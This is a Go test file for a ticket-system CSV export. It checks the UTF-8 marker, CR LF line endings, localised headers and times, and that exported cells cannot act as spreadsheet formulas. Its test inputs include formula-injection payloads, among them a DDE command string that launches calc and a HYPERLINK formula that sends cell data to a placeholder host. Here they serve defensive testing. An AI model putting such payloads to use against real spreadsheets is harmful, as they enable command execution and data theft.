package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"frontdesk/internal/export"
	"frontdesk/internal/text"
	"frontdesk/internal/ticket"
)

// read is a sheet as any reader of RFC 4180 takes it.
func read(t *testing.T, l *text.Local, list ...ticket.Record) [][]string {
	t.Helper()
	var b bytes.Buffer
	s, err := export.NewSheet(&b, l)
	if err == nil {
		err = s.Add(list)
	}
	if err != nil {
		t.Fatal(err)
	}
	bare, marked := strings.CutPrefix(b.String(), "\uFEFF")
	if !marked {
		t.Error("the file does not say that it is UTF-8")
	}
	if strings.Count(bare, "\n") != strings.Count(bare, "\r\n") || !strings.HasSuffix(bare, "\r\n") {
		t.Errorf("lines do not all end in CR LF: %q", bare)
	}
	rows, err := csv.NewReader(strings.NewReader(bare)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestCellsAreNoFormulas(t *testing.T) {
	t.Parallel()
	for _, said := range []string{"=1+1", "+48 22 555", "-5", "@SUM(A1)", "\t=1", "\tx", "\r=1", "\n=1", " =1+1", "   @x", "\u00a0=1", "\u3000-1", "\u200b=1", "\ufeff=1", "＝1+1", "＠x", "－1", "＋1",
		"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.test/?\"&A1)", "\x01=1"} {
		r := ticket.Record{ID: 100001, Subject: said, Status: said, Priority: said, Queue: said, Assignee: said, Customer: said, Company: said, Requester: said, RequesterName: said,
			Tags: []string{said}, Category: said, Source: "email", CreatedAt: time.Unix(0, 0), ChangedAt: time.Unix(0, 0)}
		for i, cell := range read(t, text.For("en"), r)[1] {
			head := strings.TrimLeft(cell, " \t\r\n")
			if i >= 15 && cell == "" {
				continue // not closed, not due
			}
			if head == "" || strings.ContainsRune("=+-@＝＋－＠", []rune(head)[0]) || strings.ContainsAny(cell[:1], " \t\r\n\u00a0") {
				t.Errorf("%q in column %d became %q", said, i, cell)
			}
		}
	}
}

func TestNoCellIsAFormulaWhereSemicolonsPartCells(t *testing.T) {
	t.Parallel()
	for _, said := range []string{"x;=cmd|' /C calc'!A0;y", "x; =1", `x;"=1+1"`, ";=1", "a;b;+48", "x\n=1", "x\t@SUM(A1)", "x;\u200b=1", "x;;=1"} {
		r := ticket.Record{ID: 100001, Subject: said, Source: "email"}
		for _, piece := range strings.FieldsFunc(read(t, text.For("en"), r)[1][1], func(c rune) bool { return strings.ContainsRune(";\t\n", c) }) {
			if bare := strings.TrimLeft(piece, "\" \u200b"); bare != "" && strings.ContainsRune("=+-@", rune(bare[0])) {
				t.Errorf("%q holds %q", said, piece)
			}
		}
	}
}

func TestOtherCellsStayAsTheyAre(t *testing.T) {
	t.Parallel()
	for _, said := range []string{"", "Lampa Łódź, „nowa”", `"quoted", and more`, "two\r\nlines", "a=b", "1-2", "👩‍🔧 дом 漢字", "  leading", "'quoted already", "x;y; z;", "; ;", strings.Repeat("ż", 5000)} {
		r := ticket.Record{ID: 100001, Subject: said, Source: "www", Status: ":new", Priority: ":high", Queue: ":inbox", Tags: []string{"a,b", "c"}}
		if got := read(t, text.For("en"), r)[1]; got[1] != strings.ReplaceAll(said, "\r\n", "\n") || got[0] != "100001" || got[10] != "a,b, c" {
			t.Errorf("%.40q became %.40q in %.80q", said, got[1], got)
		}
	}
}

func TestSheetsSpeakTheReadersLanguageAndTime(t *testing.T) {
	t.Parallel()
	warsaw, err := time.LoadLocation("Europe/Warsaw")
	if err != nil {
		t.Fatal(err)
	}
	closed := time.Date(2026, 7, 1, 22, 30, 5, 999, time.UTC)
	r := ticket.Record{ID: 100001, Subject: "x", Parent: ":open", Status: "At the expert", Priority: ":high", Queue: ":inbox", Source: "www", CreatedAt: time.Date(2026, 1, 1, 8, 0, 0, 0, time.UTC),
		ChangedAt: closed, ClosedAt: &closed}
	for lang, want := range map[string]string{
		"en": "No.|Subject|Status|Priority|Queue|Assignee|Customer|Company|Requester|Requester’s address|Tags|Category|Channel|Created|Changed|Closed|Due\n" +
			"100001|x|In progress: At the expert|High|Inbox||||||||Web form|2026-01-01T09:00:00+01:00|2026-07-02T00:30:05+02:00|2026-07-02T00:30:05+02:00|",
		"pl": "Nr|Temat|Status|Priorytet|Kolejka|Przypisanie|Klient|Firma|Zgłaszający|Adres zgłaszającego|Tagi|Kategoria|Kanał|Utworzono|Zmieniono|Zamknięto|Termin\n",
		"de": "Nr.|Betreff|Status|Priorität|Warteschlange|Zuständig|Kunde|Firma|Anfragender|Adresse des Anfragenden|Schlagwörter|Kategorie|Kanal|Erstellt|Geändert|Geschlossen|Fällig\n",
	} {
		rows := read(t, text.For(lang).In(warsaw), r)
		got := strings.Join(rows[0], "|") + "\n" + strings.Join(rows[1], "|")
		if !strings.HasPrefix(got, want) {
			t.Errorf("%s: %s\nwant %s", lang, got, want)
		}
	}
}
